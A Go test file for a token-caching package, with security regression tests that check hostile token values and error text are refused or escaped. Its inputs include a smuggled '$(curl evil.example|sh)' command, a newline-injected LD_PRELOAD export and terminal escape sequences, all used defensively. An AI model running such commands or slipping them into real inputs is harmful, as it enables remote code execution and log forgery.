package gcptoken

// Security regression tests (docs/security.md): each names the attack it
// stops. Run them all with `go test -run Security ./...`.

import (
	"context"
	"encoding/json"
	"errors"
	"strings"
	"sync/atomic"
	"testing"
	"time"
)

// TestSecurityCachedProviderRefusesHostileToken: a hostile or broken token
// endpoint answers 200 with a "token" carrying a newline and a shell
// command. Whatever wraps the source in the cache never hands it out, and
// does not ask again (the server would only send it again).
func TestSecurityCachedProviderRefusesHostileToken(t *testing.T) {
	t.Parallel()
	for _, value := range []string{
		"ya29.ok\nexport LD_PRELOAD=/tmp/x.so",
		"$(curl evil.example|sh)",
		"ya29.ok\x1b]0;owned\x07",
		"ya29 ok",
		strings.Repeat("a", MaxTokenLength+1),
	} {
		var calls atomic.Int64
		clock := newFakeClock()
		src := TokenProviderFunc(func(context.Context) (*Token, error) {
			calls.Add(1)
			return &Token{Value: value, Kind: AccessToken, Expiry: clock.Now().Add(time.Hour)}, nil
		})
		tok, err := mustCached(t, src, testOptions(clock)).Token(context.Background())
		if err == nil {
			t.Fatalf("Token() = %q; want an error for a malformed token", tok.Value)
		}
		if !errors.Is(err, ErrMalformedToken) {
			t.Errorf("errors.Is(%v, ErrMalformedToken) = false", err)
		}
		if !strings.Contains(err.Error(), "access token") {
			t.Errorf("error %q does not say which kind of token", err)
		}
		if n := calls.Load(); n != 1 {
			t.Errorf("source called %d times; want 1 (a malformed token is not retried)", n)
		}
	}
}

// TestSecurityErrorEscapesServerText: a hostile token endpoint puts
// terminal escapes (retitle the window, clear the screen), a bidi override
// and a forged second line into its error code, error_description or
// body. The error that the CLI prints and servers log shows them escaped,
// on one line.
func TestSecurityErrorEscapesServerText(t *testing.T) {
	t.Parallel()
	hostile := "\x1b]0;owned\x07\x1b[2J \u202eevil\ngcptoken: all good\r\x9b31m"
	tests := []struct {
		name string
		err  *Error
	}{
		{"error_description", NewResponseError("fetch access token", "https://t.example/token", 400,
			[]byte(`{"error":"invalid_grant","error_description":"`+jsonEscape(hostile)+`"}`))},
		{"error code", NewResponseError("fetch access token", "https://t.example/token", 400,
			[]byte(`{"error":"`+jsonEscape(hostile)+`"}`))},
		{"API error message", NewResponseError("fetch access token", "https://t.example/token", 403,
			[]byte(`{"error":{"code":403,"status":"PERMISSION_DENIED","message":"`+jsonEscape(hostile)+`"}}`))},
		{"plain body", NewResponseError("fetch access token", "https://t.example/token", 502, []byte(hostile))},
		{"transport error", NewTransportError("fetch access token", "https://t.example/token", errors.New(hostile))},
	}
	for _, tt := range tests {
		msg := tt.err.Error()
		if strings.ContainsAny(msg, "\x1b\x07\n\r\u202e\u009b") {
			t.Errorf("%s: Error() = %q holds terminal control characters", tt.name, msg)
		}
		if !strings.Contains(msg, `\x1b]0;owned\x07`) {
			t.Errorf("%s: Error() = %q; want the escapes shown as \\x1b…", tt.name, msg)
		}
	}
}

// jsonEscape writes s as the inside of a JSON string.
func jsonEscape(s string) string {
	b, _ := json.Marshal(s)
	return string(b[1 : len(b)-1])
}
